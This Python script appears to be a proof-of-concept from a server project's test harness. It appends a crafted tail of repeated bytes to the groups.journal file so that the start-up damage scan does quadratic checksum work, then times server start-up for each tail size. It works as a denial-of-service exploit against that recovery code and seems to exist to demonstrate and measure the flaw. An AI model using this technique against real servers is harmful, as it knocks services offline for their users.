"""Attack (needs write access to the data directory): a damaged groups.journal tail crafted so
that one byte position in four looks like the start of a plausible record of about 1 MiB
(length <= 1 MiB, an interned Create kind), so the start-up scan, which tries every byte
position after damage, computes a 1 MiB checksum for each: quadratic in the damaged length.
Prints the start-up time for each size of crafted tail.

usage: journal_scan.py KIB..."""
import os
import sys
import time

from common import Conn, Server, fc

for kib in [int(a) for a in sys.argv[1:]] or [64, 256]:
    server = Server()
    conn = Conn(server.port, "creator")
    conn.send(fc.encode_group_admin("g", fc.ADMIN_CREATE, glob="/g/**"))
    conn.recv(timeout=10)
    conn.close()
    server.stop()
    with open(os.path.join(server.dir, "groups.journal"), "ab") as journal:
        journal.write(bytes([0x81, 0x00, 0x0F, 0x00]) * (kib * 256))
    started = time.monotonic()
    again = Server(data_dir=server.dir)
    took = time.monotonic() - started
    print(f"crafted tail {kib} KiB: start-up took {took:.1f} s; "
          f"{sum('damag' in line or 'torn' in line for line in again.lines)} damage lines")
    again.stop()
